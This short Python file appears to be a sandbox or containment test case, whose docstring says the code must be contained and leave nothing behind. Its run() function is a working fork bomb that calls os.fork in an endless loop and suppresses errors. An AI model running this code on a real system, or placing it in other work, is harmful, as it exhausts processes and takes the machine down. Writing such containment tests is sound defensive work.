"""Forks without end, every child forking too: must be contained and leave nothing behind."""

import contextlib
import os


def run():
    while True:
        with contextlib.suppress(OSError):
            os.fork()
